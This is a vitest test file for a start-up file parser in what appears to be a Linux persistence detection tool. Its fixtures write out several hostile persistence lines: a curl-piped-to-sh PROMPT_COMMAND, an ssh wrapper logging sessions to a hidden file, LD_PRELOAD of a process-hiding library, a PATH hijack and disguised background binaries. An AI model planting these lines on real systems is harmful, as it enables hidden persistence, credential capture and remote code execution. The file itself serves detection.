import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { parseStartup } from '../../../src/collectors/startup-files/parse-startup.js';

const clean = (p: string) => readFileSync(new URL(`../../fixtures/persistence-autostart/clean/${p}`, import.meta.url), 'utf8');

describe('parseStartup', () => {
  it('keeps what matters in a shell start-up file, with line numbers', () => {
    const text = [
      '# ~/.bashrc',
      "alias ls='ls --color=auto'",
      "alias sudo='sudo '",
      "alias sudo='/tmp/.s/sudo'",
      'ssh() { /usr/bin/ssh "$@" | tee -a /tmp/.k; }',
      'export LD_PRELOAD=/lib/.x/libz.so',
      'export PATH="/tmp/.bin:$PATH"',
      'PROMPT_COMMAND=\'history -a; curl -s http://x | sh\'',
      'nohup /dev/shm/.x/kswapd0 >/dev/null 2>&1 &',
      'echo hello',
      '. "$HOME/.cargo/env"',
    ].join('\n');
    const rows = parseStartup(text, 'shell-startup', { home: '/home/alice' });
    expect(rows.map((r) => [r.line, r.what, r.name ?? r.value])).toEqual([
      [4, 'alias', 'sudo'],
      [5, 'alias', 'ssh'],
      [6, 'ld-preload', '/lib/.x/libz.so'],
      [7, 'path', '/tmp/.bin:$PATH'],
      [8, 'prompt-command', 'history -a; curl -s http://x | sh'],
      [9, 'command', null],
      [11, 'command', null],
    ]);
    expect(rows[4].analysis?.fetchPipe).toBe('curl … | sh');
    expect(rows[5].analysis?.runs).toEqual([{ path: '/dev/shm/.x/kswapd0', as: 'program' }]);
  });

  it('rc.local keeps every command but the shebang and exit 0', () => {
    const rows = parseStartup('#!/bin/sh -e\n# comment\n/usr/local/bin/setup-net\nnohup /var/tmp/.ICE-unix/x &\nexit 0\n', 'rc-local');
    expect(rows.map((r) => [r.line, r.what])).toEqual([
      [3, 'command'],
      [4, 'command'],
    ]);
  });

  it('/etc/environment: LD_PRELOAD and PATH; /etc/ld.so.preload: every library, # comments ignored', () => {
    expect(parseStartup('PATH="/usr/bin:/bin"\nLANG=C\nLD_PRELOAD=/usr/local/lib/libprocesshider.so\n# LD_PRELOAD=/x\n', 'environment').map((r) => [r.line, r.what, r.value])).toEqual([
      [1, 'path', '/usr/bin:/bin'],
      [3, 'ld-preload', '/usr/local/lib/libprocesshider.so'],
    ]);
    expect(parseStartup('# nothing\n/lib/a.so /lib/b.so:/lib/c.so # x\n#/lib/d.so\n\n', 'ld-so-preload').map((r) => [r.line, r.value])).toEqual([[2, '/lib/a.so /lib/b.so /lib/c.so']]);
  });

  it('real Debian defaults give only PATH settings and sourcing of system files', () => {
    for (const f of ['etc/profile', 'etc/bash.bashrc', 'home/alice/.bashrc', 'home/alice/.profile', 'root/.bashrc', 'root/.profile']) {
      for (const r of parseStartup(clean(f), 'shell-startup', { home: '/home/alice' })) {
        expect(['path', 'command'], `${f}:${r.line}`).toContain(r.what);
        if (r.what === 'command') expect(r.analysis!.fetchPipe, `${f}:${r.line}`).toBeNull();
      }
    }
  });
});
